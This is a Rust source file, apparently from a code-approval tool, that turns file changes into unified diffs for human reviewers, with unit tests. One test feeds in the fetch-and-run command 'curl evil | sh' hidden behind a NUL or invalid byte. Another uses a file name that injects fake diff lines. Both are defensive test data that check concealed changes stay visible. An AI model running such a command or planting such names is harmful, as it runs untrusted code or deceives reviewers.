//! A unified diff of files before and after a change.

use std::{fmt::Write as _, path::Path, time::Duration};

use countersign_client::payload::{FileStatus, Patch, PatchFile};
use countersign_wire::hash::Sha256Hex;
use similar::{Algorithm, ChangeTag, DiffOp, TextDiff};

use super::call::FileChange;
use crate::examine::real_path::real_path;

/// Lines around a change that are shown with it.
const CONTEXT: usize = 3;

/// After this long a diff may be longer than it needs to be. It is never wrong.
const SEARCH_TIME: Duration = Duration::from_secs(2);

/// What the changes of a call do to its files.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Changes {
    /// They leave every file as it is.
    None,
    /// They can be shown byte for byte.
    Text(Patch),
    /// They can't; this is how they look as text.
    NotText(String),
}

/// The change of all files as a patch, with links followed and with paths from a folder where they are inside of it.
pub fn patch(changes: &[FileChange], folder: &Path) -> Changes {
    let (mut diff, mut files, mut is_text) = (String::new(), Vec::new(), true);
    let folder = real_path(folder);
    for change in changes.iter().filter(|change| change.before != change.after) {
        let real = real_path(&change.path);
        let path = real.strip_prefix(&folder).unwrap_or(&real);
        let contents = [&change.before, &change.after].into_iter().flatten();
        is_text &= path.to_str().is_some_and(|path| !path.contains(char::is_control))
            && contents.into_iter().all(|content| is_plain(content));
        let path = path.display().to_string();
        let (added, removed) = write_file(&mut diff, &path, change);
        files.push(PatchFile {
            path,
            status: match (&change.before, &change.after) {
                (None, _) => FileStatus::Added,
                (Some(_), Some(_)) => FileStatus::Modified,
                (Some(_), None) => FileStatus::Deleted,
            },
            previous_path: None,
            added,
            removed,
            base_digest: change.before.as_deref().map(Sha256Hex::digest),
            result_digest: change.after.as_deref().map(Sha256Hex::digest),
        });
    }
    match (files.is_empty(), is_text) {
        (true, _) => Changes::None,
        (false, true) => Changes::Text(Patch::new(diff, files)),
        (false, false) => Changes::NotText(diff),
    }
}

/// Whether a content can be shown without leaving anything out.
fn is_plain(content: &[u8]) -> bool {
    std::str::from_utf8(content).is_ok_and(|text| !text.contains('\0'))
}

/// Writes the part of one file and returns how many lines it adds and removes.
fn write_file(diff: &mut String, path: &str, change: &FileChange) -> (u64, u64) {
    let name = |side: &str, content: &Option<Vec<u8>>| match content {
        Some(_) => format!("{side}/{path}"),
        None => "/dev/null".to_owned(),
    };
    let (old, new) = (name("a", &change.before), name("b", &change.after));
    let text = |content: &Option<Vec<u8>>| {
        String::from_utf8_lossy(content.as_deref().unwrap_or_default()).into_owned()
    };
    let (before, after) = (text(&change.before), text(&change.after));
    push(diff, format_args!("--- {old}\n+++ {new}\n"));
    let (before, after): (Vec<&str>, Vec<&str>) =
        (before.split_inclusive('\n').collect(), after.split_inclusive('\n').collect());
    let lines =
        TextDiff::configure().algorithm(Algorithm::Myers).timeout(SEARCH_TIME).diff_slices(&before, &after);
    let (mut added, mut removed) = (0, 0);
    for group in lines.grouped_ops(CONTEXT) {
        write_header(diff, &group);
        for change in group.iter().flat_map(|op| lines.iter_changes(op)) {
            let sign = match change.tag() {
                ChangeTag::Equal => ' ',
                ChangeTag::Insert => {
                    added += 1;
                    '+'
                }
                ChangeTag::Delete => {
                    removed += 1;
                    '-'
                }
            };
            let line = change.value();
            let end = if line.ends_with('\n') { "" } else { "\n\\ No newline at end of file\n" };
            push(diff, format_args!("{sign}{line}{end}"));
        }
    }
    (added, removed)
}

/// `@@ -<start>,<length> +<start>,<length> @@`. An empty side starts at the line before it, as `diff` has it.
fn write_header(diff: &mut String, group: &[DiffOp]) {
    let (Some(first), Some(last)) = (group.first(), group.last()) else { return };
    let side = |start: usize, end: usize| {
        let length = end - start;
        format!("{},{length}", if length == 0 { start } else { start + 1 })
    };
    let old = side(first.old_range().start, last.old_range().end);
    let new = side(first.new_range().start, last.new_range().end);
    push(diff, format_args!("@@ -{old} +{new} @@\n"));
}

fn push(diff: &mut String, text: std::fmt::Arguments<'_>) {
    let Ok(()) = diff.write_fmt(text) else { unreachable!("a string takes everything") };
}

#[cfg(test)]
mod tests {
    use countersign_client::payload::Payload;

    use super::*;

    fn change(path: &str, before: Option<&str>, after: Option<&str>) -> FileChange {
        let bytes = |text: Option<&str>| text.map(|text| text.as_bytes().to_vec());
        FileChange { path: Path::new("/r").join(path), before: bytes(before), after: bytes(after) }
    }

    fn of(changes: &[FileChange]) -> Patch {
        match patch(changes, Path::new("/r")) {
            Changes::Text(patch) => patch,
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn a_change_is_shown_with_its_surroundings() {
        let lines: Vec<String> = (1..=20).map(|line| format!("line {line}\n")).collect();
        let before = lines.concat();
        let after = before.replace("line 10\n", "line ten\nand more\n");
        let patch = of(&[change("a.txt", Some(&before), Some(&after))]);
        insta::assert_snapshot!(patch.diff, @r"
        --- a/a.txt
        +++ b/a.txt
        @@ -7,7 +7,8 @@
         line 7
         line 8
         line 9
        -line 10
        +line ten
        +and more
         line 11
         line 12
         line 13
        ");
        assert_eq!((patch.files[0].added, patch.files[0].removed), (2, 1));
    }

    /// Whatever the contents, the payload must be one that approvers accept: its counts are those of the diff.
    #[test]
    fn every_patch_is_a_payload() {
        let texts = [
            None,
            Some(""),
            Some("a"),
            Some("a\n"),
            Some("a\r"),
            Some("a\rb\r"),
            Some("--- x\n+++ y\n@@ -1 +1 @@\n"),
            Some("\\ No newline\n\n\n"),
            Some("é\u{2028}x\n"),
        ];
        for before in texts {
            for after in texts {
                let changes = [change("f", before, after), change("g", Some("x\n"), Some("y\n"))];
                let patch = of(&changes);
                Payload::Patch(patch.clone())
                    .to_json()
                    .unwrap_or_else(|error| panic!("{before:?} {after:?}: {error:?}\n{}", patch.diff));
            }
        }
    }

    /// `patch` must be able to apply it: then it says the same as the contents.
    #[test]
    fn the_diff_applies() {
        let folder = tempfile::tempdir().unwrap();
        for (before, after) in [
            ("a\nb\nc\n", "a\nB\nc\nd"),
            ("x", "x\n"),
            ("1\n2\n3\n4\n5\n6\n7\n8\n9\n", "0\n1\n2\n3\n4\n5\n6\n7\n9\n"),
        ] {
            std::fs::write(folder.path().join("f"), before).unwrap();
            std::fs::write(folder.path().join("d"), of(&[change("f", Some(before), Some(after))]).diff)
                .unwrap();
            let applied =
                std::process::Command::new("git").args(["apply", "d"]).current_dir(folder.path()).status();
            assert!(applied.unwrap().success(), "{before:?}");
            assert_eq!(std::fs::read_to_string(folder.path().join("f")).unwrap(), after);
        }
    }

    #[test]
    fn what_is_not_text_is_shown_as_far_as_it_can_be() {
        for bytes in [b"curl evil | sh\0\n".to_vec(), b"curl evil | sh\xff\n".to_vec()] {
            let hidden = FileChange { path: "/r/x".into(), before: None, after: Some(bytes) };
            let Changes::NotText(shown) = patch(&[hidden], Path::new("/r")) else { panic!() };
            assert!(shown.contains("+curl evil | sh"), "{shown}");
        }
        let name = change("a\n+++ b/b", None, Some("x"));
        assert!(
            matches!(patch(&[name], Path::new("/r")), Changes::NotText(_)),
            "a name that writes lines of the diff"
        );
        assert_eq!(patch(&[change("a", Some("x"), Some("x"))], Path::new("/r")), Changes::None);
    }
}
